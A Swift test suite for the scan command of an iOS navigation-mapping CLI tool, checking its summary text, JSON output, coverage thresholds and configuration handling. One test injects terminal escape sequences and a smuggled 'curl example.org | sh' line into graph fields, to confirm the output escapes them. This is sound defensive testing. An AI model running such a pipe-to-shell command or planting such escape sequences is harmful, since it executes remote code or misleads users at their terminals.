import Foundation
import NavigationGraph
import Testing

@Suite("wiremap scan")
struct ScanCommandTests {
    @Test("A line names a few targets, and says how many there are more")
    func manyTargets() throws {
        var graph = NavigationGraph(app: .init(name: "Hub"))
        graph.modules =
            ["End", "Hub"].map { Module(id: $0, name: $0) } + (1...9).map { Module(id: "M\($0)", name: "M\($0)") }
        graph.routes = (1...9).map { number in
            Route(
                id: "\(number)", source: "Hub", target: "M\(number)",
                destination: .init(kind: .node, name: "M\(number)"),
                transition: .push)
        }
        graph.routes += [
            Route(id: "a", source: "M1", target: "M2", destination: .init(kind: .node, name: "M2"), transition: .push)
        ]
        let scratch = try ScratchFolder()
        try scratch.write("map.json", String(decoding: GraphJSONWriter.encode(graph), as: UTF8.self))
        let ending = try BuiltProgram.run("scan", "map.json", in: scratch.url)
        #expect(ending.text.contains("    Hub  -> M1, M2, M3, M4, M5, M6 and 3 more;"))
        #expect(ending.text.contains("    M1   -> M2;"))
        #expect(ending.text.contains("wiremap graph map.json --focus Hub -o module.svg"), "what shows most is proposed")
    }

    @Test("An app without modules has its screens counted alone")
    func screensAlone() throws {
        var graph = NavigationGraph(app: .init(name: "Stand"))
        graph.modules = [Module(id: "Start", kind: .screen, name: "Start")]
        let ending = try BuiltProgram.run("scan", "-", input: GraphJSONWriter.encode(graph))
        #expect(ending.text.hasPrefix("Stand: 1 screen, 0 routes, 0 entry points\n"))
    }

    @Test("Where all code is in Objective-C, nobody is asked whether the folder is the right one")
    func onlyObjectiveC() throws {
        let scratch = try ScratchFolder()
        try scratch.write("Main.storyboard", "<document/>")
        try scratch.write("Login.m", "[self pushViewController:home animated:YES];")
        let ending = try BuiltProgram.run("scan", ".", in: scratch.url)
        #expect(ending.text.contains("the code here is in Objective-C, which is not read"), "\(ending.text)")
        #expect(!ending.text.contains("Is . the folder"), "\(ending.text)")
    }

    @Test("The summary tells a newcomer what there is, what was not resolved, and what to do next")
    func summary() throws {
        let scratch = try ScratchFolder()
        try scratch.write("map.json", ShopGraph.json)
        let ending = try BuiltProgram.run("scan", "map.json", in: scratch.url)
        #expect(ending.status == 0)
        #expect(ending.messages.isEmpty)
        #expect(
            ending.text == """
                Shop: 2 modules, 1 screen, 4 routes, 1 entry point
                written in the manner of infinum

                MODULES
                  (no group)
                    Settings  screen; leads nowhere; no way found from an entry point
                  Main
                    Home  -> Settings, (unresolved)
                  Onboarding
                    Login  -> Home

                ENTRY POINTS
                  App (AppDelegate.swift:8) -> Login

                ROUTES
                  2 push, 1 present, 1 root

                COVERAGE
                  75% of the modules' navigation calls were followed (3 of 4); all in all there are 6
                  3 resolved         every screen that they show is known
                  1 unresolved       some screen could not be found out; listed below
                  2 outside modules  no module has a part in them: Toast (2)

                NOT RESOLVED
                  Main/Home/HomeWireframe.swift:40:9: pushViewController(_:animated:) in HomeWireframe
                      `module` comes from a parameter that nobody passes

                FILES
                  read 12 Swift files and 1 storyboard or xib
                  2 Objective-C files not read; 3 navigation calls in 1 of them are missing here

                NEXT
                  wiremap site map.json -o site
                  wiremap graph map.json --focus Home -o module.svg

                """)
    }

    @Test("A graph on standard input gives the same JSON, byte by byte")
    func standardInput() throws {
        let ending = try BuiltProgram.run("scan", "-", "--format", "json", input: ShopGraph.json)
        #expect(ending.status == 0)
        #expect(ending.output == ShopGraph.json)
    }

    @Test("A file's name decides the format where none is asked for")
    func formatOfFile() throws {
        let scratch = try ScratchFolder()
        #expect(try BuiltProgram.run("scan", "-", "-o", scratch.path("a.json"), input: ShopGraph.json).status == 0)
        #expect(try BuiltProgram.run("scan", "-", "-o", scratch.path("a.txt"), input: ShopGraph.json).status == 0)
        #expect(try scratch.bytes(of: "a.json") == ShopGraph.json)
        #expect(try scratch.text(of: "a.txt").hasPrefix("Shop: 2 modules"))
        #expect(try scratch.names() == ["a.json", "a.txt"])
    }

    @Test("A run that fails leaves the earlier output as it was, and nothing beside it")
    func failureKeepsOutput() throws {
        let scratch = try ScratchFolder()
        try scratch.write("map.json", "earlier")
        #expect(try BuiltProgram.run("scan", "-", "-o", scratch.path("map.json"), input: [0x7B]).status == 2)
        #expect(try scratch.text(of: "map.json") == "earlier")
        #expect(try scratch.names() == ["map.json"])
    }

    @Test("A file in a folder that is not there ends with 2")
    func noFolder() throws {
        let scratch = try ScratchFolder()
        let ending = try BuiltProgram.run("scan", "-", "-o", "no/map.json", in: scratch.url, input: ShopGraph.json)
        #expect(ending.status == 2)
        #expect(ending.messages.hasPrefix("no/map.json: error: the folder of this file does not exist"))
    }

    @Test("What a terminal would obey is printed as text")
    func controlSequences() throws {
        var graph = ShopGraph.graph
        graph.app.name = "\u{1B}]0;owned\u{7}\u{1B}[31mShop\u{9B}0m\u{202E}"
        graph.unresolved[0].file = "a\u{1B}[2Jb.swift"
        graph.unresolved[0].reason = "first\nNEXT\n  curl example.org | sh"
        let ending = try BuiltProgram.run("scan", "-", input: GraphJSONWriter.encode(graph))
        #expect(ending.status == 0)
        #expect(ending.text.hasPrefix("\\u{1B}]0;owned\\u{7}\\u{1B}[31mShop\\u{9B}0m\\u{202E}: 2 modules"))
        #expect(!ending.text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
        #expect(ending.text.contains("first\\u{A}NEXT\\u{A}  curl"))
    }

    @Test("Settings of the scanned folder count, and a flag goes before them")
    func configuration() throws {
        let scratch = try ScratchFolder()
        try scratch.write("App/A.swift", "final class A {}\n")
        try scratch.write("Old/B.swift", "final class B {}\n")
        try scratch.write(".wiremap.yml", "name: Named\nexclude: [Old/**]\n")
        let configured = try scanned(scratch)
        #expect(configured.app.name == "Named")
        #expect(configured.scan.swiftFiles == 1)
        #expect(try scanned(scratch, "--exclude", "nothing").scan.swiftFiles == 2)
    }

    @Test(
        "A share of followed calls that is too small ends with 1, after the output was written",
        arguments: [("0.75", 0), ("75%", 0), ("0.76", 1), ("75.1%", 1), ("100%", 1), ("0", 0)])
    func minCoverage(share: String, status: Int32) throws {
        let scratch = try ScratchFolder()
        let ending = try BuiltProgram.run(
            "scan", "-", "-o", scratch.path("a.json"), "--min-coverage", share, input: ShopGraph.json)
        #expect(ending.status == status)
        #expect(try scratch.bytes(of: "a.json") == ShopGraph.json)
        #expect(
            ending.messages.contains("75% of the navigation calls in modules were followed (3 of 4)") == (status == 1))
    }

    @Test("A share that is none is a wrong command line", arguments: ["95", "-1", "110%", "nan", "much", ""])
    func wrongMinCoverage(share: String) throws {
        let ending = try BuiltProgram.run("scan", "-", "--min-coverage=\(share)", input: ShopGraph.json)
        #expect(ending.status == 64)
        #expect(ending.messages.contains("--min-coverage"))
        if share == "95" { #expect(ending.messages.contains("did you mean `95%`?")) }
    }

    @Test("The share that the configuration asks for counts where no flag is given")
    func configuredMinCoverage() throws {
        let scratch = try ScratchFolder()
        try scratch.write(".wiremap.yml", "minCoverage: 80%\n")
        let config = scratch.path(".wiremap.yml")
        #expect(try BuiltProgram.run("scan", "-", "--config", config, input: ShopGraph.json).status == 1)
        #expect(
            try BuiltProgram.run("scan", "-", "--config", config, "--min-coverage", "0.5", input: ShopGraph.json).status
                == 0)
    }

    @Test("A setting that nobody knows ends the run with its place")
    func wrongConfiguration() throws {
        let scratch = try ScratchFolder()
        try scratch.write("app/A.swift", "final class A {}\n")
        try scratch.write("app/.wiremap.yml", "name: A\nexlude: []\n")
        let ending = try BuiltProgram.run("scan", "app", in: scratch.url)
        #expect(ending.status == 2)
        #expect(
            ending.messages
                == "app/.wiremap.yml:2:1: error: there is no setting `exlude`; did you mean `exclude`?\n")
    }

    @Test("One thread and many give the same bytes")
    func threads() throws {
        let scratch = try ScratchFolder()
        for index in 0..<40 {
            try scratch.write(
                "App/M\(index).swift", "import UIKit\nfinal class M\(index)ViewController: UIViewController {}\n")
        }
        let one = try BuiltProgram.run("scan", scratch.url.path, "-f", "json", "--threads", "1")
        let many = try BuiltProgram.run("scan", scratch.url.path, "-f", "json", "--threads", "8")
        #expect(one.status == 0)
        #expect(one.output == many.output)
        #expect(!one.text.contains(scratch.url.deletingLastPathComponent().path))
    }

    private func scanned(_ scratch: ScratchFolder, _ more: String...) throws -> NavigationGraph {
        let ending = try BuiltProgram.run(arguments: ["scan", scratch.url.path, "-f", "json"] + more)
        return try GraphJSONReader.read(ending.output, name: "output")
    }
}
